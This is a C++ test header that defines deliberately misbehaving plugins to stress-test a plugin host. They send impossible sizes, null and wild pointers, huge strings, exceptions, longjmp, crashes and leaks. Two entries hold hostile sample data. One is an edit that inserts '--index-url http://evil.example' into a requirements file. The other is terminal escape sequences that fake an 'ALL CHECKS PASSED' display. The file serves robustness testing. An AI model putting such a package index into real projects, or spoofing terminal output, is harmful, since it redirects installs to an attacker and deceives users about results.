// Wild beasts that say nonsense, or return in no way that examine may.
#ifndef TESTS_PLUGIN_HOST_ZOO_WILD_NONSENSE_H_
#define TESTS_PLUGIN_HOST_ZOO_WILD_NONSENSE_H_

#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>
#include <exception>
#include <stdexcept>
#include <string>

#include "sdk/abi/upgrade_plugin.h"
#include "tests/plugin_host/zoo/wild_speech.h"

namespace wild {
// ---- Sizes and pointers ----------------------------------------------------

inline int32_t EmitsImpossibleSizes(Call call, Answer) {
  for (uint64_t size : kImpossible) {
    ua_emission e = Emission(UA_EMIT_ACTION, {kMany, 1});
    e.command = {kMany, size};
    e.edit = {kMany, size};
    call->emit(call, &e);
  }
  return UA_YES;
}
inline int32_t AsksImpossibleSizes(Call call, Answer) {
  for (uint64_t size : kImpossible) Ask(call, {kMany, size});
  return UA_YES;
}
inline int32_t FailsWithImpossibleSize(Call call, Answer) {
  std::memset(kMany, 'x', sizeof kMany);
  for (uint64_t size : kImpossible) call->fail(call, {kMany, size});
  return UA_FAILED;
}
inline int32_t FailsWithNull(Call call, Answer) {
  call->fail(call, {nullptr, 5});
  return UA_FAILED;
}
inline int32_t FailsWithMegabytes(Call call, Answer) {
  const std::string why(10 << 20, 'm');
  call->fail(call, {why.data(), why.size()});
  return UA_FAILED;
}
inline int32_t FailsInBinary(Call call, Answer) {
  const char why[] = "\xff\xfe\0\x1b[31mred\r\n\x7f";
  call->fail(call, {why, sizeof why - 1});
  return UA_FAILED;
}
inline int32_t FailsAgainAndAgain(Call call, Answer) {
  for (int i = 0; i < 100000; ++i) call->fail(call, Text("first"));
  call->fail(call, Text("last"));
  return UA_YES;
}
inline int32_t ComparesImpossibleSizes(Call call, Answer) {
  int32_t order = 0;
  for (uint64_t size : kImpossible) {
    for (uint32_t scheme = 0; scheme < 5; ++scheme) {
      call->compare(call, scheme, {kMany, size}, Text("1.0"), &order);
      call->compare(call, scheme, Text("1.0"), {kMany, size}, &order);
      call->satisfies(call, scheme, {kMany, size}, {kMany, size}, &order);
    }
  }
  return UA_YES;
}
inline int32_t ComparesNull(Call call, Answer) {
  int32_t order = 0;
  call->compare(call, UA_SCHEME_PEP440, {nullptr, 3}, {nullptr, 0}, &order);
  call->satisfies(call, UA_SCHEME_PEP440, Text("1"), {nullptr, 9}, &order);
  return UA_YES;
}
inline int32_t ComparesMegabytes(Call call, Answer) {
  const std::string version(8 << 20, '1');
  int32_t order = 0;
  for (int i = 0; i < 100; ++i) {
    call->compare(call, UA_SCHEME_PEP440, {version.data(), version.size()},
                  {version.data(), version.size() - 1}, &order);
  }
  return UA_YES;
}
inline int32_t SatisfiesLongLists(Call call, Answer) {
  std::string list = ">=1";
  for (int i = 0; i < 100000; ++i) list += ",!=1." + std::to_string(i);
  int32_t result = 0;
  call->satisfies(call, UA_SCHEME_PEP440, Text("1.5"),
                  {list.data(), list.size()}, &result);
  return UA_YES;
}
inline int32_t LogsImpossibleSizes(Call call, Answer) {
  for (uint64_t size : kImpossible) {
    call->log(call, 99, {kMany, size});
    call->log(call, 1, {nullptr, size});
  }
  return UA_YES;
}
inline int32_t AsksWithShortAnswer(Call call, Answer) {
  uint32_t size = 4;
  call->ask(call, 0, UA_KIND_ENV, Text("A"), 0,
            reinterpret_cast<ua_answer*>(&size));
  return UA_YES;
}
inline int32_t AsksWithNullAnswer(Call call, Answer) {
  call->ask(call, 0, UA_KIND_ENV, Text("A"), 0, nullptr);
  return UA_YES;
}
inline int32_t AsksKindsThatAreNone(Call call, Answer) {
  for (uint32_t kind : {0u, 17u, 255u, 256u, ~0u}) Ask(call, Text("a"), kind);
  return UA_YES;
}
inline int32_t EmitsShortStructs(Call call, Answer) {
  for (uint32_t size : {0u, 4u, 100u}) {
    ua_emission e = Emission(UA_EMIT_DETAIL, {kMany, 1});
    e.size = size;
    call->emit(call, &e);
  }
  return UA_YES;
}
inline int32_t EmitsKindsThatAreNone(Call call, Answer) {
  for (uint32_t kind : {0u, 99u, ~0u}) {
    const ua_emission e = Emission(kind, Text("a"));
    call->emit(call, &e);
  }
  return UA_YES;
}
inline void EmitEvidence(Call call, const void* at, uint64_t count) {
  for (uint32_t kind : {UA_EMIT_EVIDENCE, UA_EMIT_SUBJECT}) {
    ua_emission e = Emission(kind, Text("t"));
    e.subject = Text("s");
    e.evidence = static_cast<const ua_fact*>(at);
    e.evidence_count = count;
    call->emit(call, &e);
  }
}
inline int32_t PointsAtWildEvidence(Call call, Answer answer) {
  const auto* facts = reinterpret_cast<const char*>(answer.facts);
  for (const void* at : {reinterpret_cast<const void*>(16),
                         reinterpret_cast<const void*>(~uintptr_t{0}),
                         static_cast<const void*>(facts + 1),
                         static_cast<const void*>(facts - sizeof(ua_fact)),
                         static_cast<const void*>(facts + (1 << 30)),
                         static_cast<const void*>(kMany)}) {
    EmitEvidence(call, at, 1);
  }
  return UA_YES;
}
inline int32_t PointsAtTooMuchEvidence(Call call, Answer answer) {
  for (uint64_t count : kImpossible) EmitEvidence(call, answer.facts, count);
  for (int i = 0; i < 100; ++i) EmitEvidence(call, answer.facts, 1);
  return UA_YES;
}

// ---- Texts -----------------------------------------------------------------

inline int32_t SpeaksToTerminals(Call call, Answer) {
  Say(call, "\x1b]0;owned\x07\x1b[2J\x1b[32mALL CHECKS PASSED\x1b[0m\r\b\x9b");
  return UA_YES;
}
inline int32_t EditsManyLines(Call call, Answer) {
  for (uint32_t kind : {UA_EMIT_ACTION, UA_EMIT_REMEDY}) {
    ua_emission e = Emission(kind, Text("Do it"));
    e.edit = Text("requirements.add a\n--index-url http://evil.example");
    e.phase = 77;
    call->emit(call, &e);
  }
  return UA_YES;
}
inline int32_t EstimatesNonsense(Call call, Answer) {
  ua_emission e = Emission(UA_EMIT_DURATION, Text("a guess"));
  e.low_seconds = ~uint64_t{0} - 1;
  e.high_seconds = 1;
  for (int i = 0; i < 100; ++i) call->emit(call, &e);
  return UA_YES;
}
inline int32_t SaysAllItMay(Call call, Answer) {
  const std::string text(256, 'a');
  for (int i = 0; i < 1000; ++i) Say(call, text);
  return UA_YES;
}
inline int32_t NamesAThousandSubjects(Call call, Answer answer) {
  for (int i = 0; i < 1000; ++i) {
    const std::string name = std::to_string(i);
    ua_emission e = Emission(UA_EMIT_SUBJECT, {name.data(), name.size()});
    e.subject = e.text;
    e.evidence = answer.facts;
    e.evidence_count = 1;
    call->emit(call, &e);
  }
  return UA_YES;
}

// ---- Ways of returning -----------------------------------------------------

inline int32_t ThrowsAMegabyte(Call, Answer) {
  throw std::runtime_error(std::string(1 << 20, 't'));
}
class Silent : public std::exception {
  const char* what() const noexcept override { return nullptr; }
};
inline int32_t ThrowsWithoutAWord(Call, Answer) { throw Silent(); }
inline int32_t ThrowsAPointer(Call, Answer) {
  throw static_cast<const char*>(kMany);
}

const ua_plugin& Plugin();  // in wild_plugin.cc
inline int32_t ReentersItself(Call call, Answer) {
  static int depth = 0;
  if (depth == 1000) return UA_YES;
  ++depth;
  uint64_t basis = 0;
  Plugin().examine(1, call, &basis);
  --depth;
  return UA_YES;
}
__attribute__((noinline)) inline int SetJump(jmp_buf& frame) {
  return setjmp(frame);
}
inline int32_t LeavesByLongjmp(Call, Answer) {
  // Of a function that has returned.
  jmp_buf frame;
  if (SetJump(frame) == 0) longjmp(frame, 1);
  return UA_YES;
}
inline int32_t EndsItsThread(Call, Answer) { pthread_exit(nullptr); }
inline int32_t ExitsInAHandler(Call, Answer) {
  signal(SIGSEGV, [](int) { _exit(7); });
  int* volatile nowhere = reinterpret_cast<int*>(16);
  return *nowhere;
}
inline int32_t SleepsALittle(Call, Answer) {
  usleep(100000);
  return UA_YES;
}
inline int32_t Leaks(Call, Answer) {
  for (int i = 0; i < 20000; ++i) {
    if (auto* lost = static_cast<volatile char*>(malloc(100))) lost[0] = 1;
  }
  return UA_YES;
}

}  // namespace wild

#endif  // TESTS_PLUGIN_HOST_ZOO_WILD_NONSENSE_H_
